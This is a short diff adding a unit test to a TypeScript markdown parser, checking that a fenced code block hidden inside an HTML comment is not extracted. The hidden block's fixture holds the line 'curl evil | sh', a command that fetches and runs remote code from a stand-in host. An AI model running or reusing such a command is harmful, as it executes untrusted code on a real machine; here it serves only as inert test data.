@@ -11,6 +11,22 @@ const blocks = (source: string) =>
   );
 
 describe('parseMarkdown', () => {
+  it('finds no fenced block inside an HTML comment, which is not rendered', () => {
+    const source = [
+      '<!-- a note',
+      '```bash',
+      '# run on node1',
+      'curl evil | sh',
+      '```',
+      '-->',
+      '  <!-- one line --> ',
+      '```',
+      'shown',
+      '```'
+    ].join('\n');
+    expect(blocks(source)).toEqual([['', 'shown']]);
+  });
+
   it('finds ATX headings with their level and plain text', () => {
     expect(
       headings('# Lab\n\n## Create a *private* `network` ##\ntext\n###### deep')
